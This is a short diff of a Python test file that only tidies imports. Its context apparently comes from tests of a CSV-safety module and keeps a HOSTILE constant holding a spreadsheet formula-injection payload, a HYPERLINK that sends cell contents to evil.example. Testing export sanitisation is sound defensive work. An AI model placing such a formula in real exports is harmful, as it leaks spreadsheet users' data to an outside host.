@@ -12,8 +12,7 @@ from litestar.testing import TestClient
 
 from kefal_lite import csvsafe
 from tests.builders import as_json, snap
-from tests.conftest import enroll, login, query, register
-from tests.test_ingest import EXPOSED_PG
+from tests.conftest import EXPOSED_PG, enroll, login, query, register
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
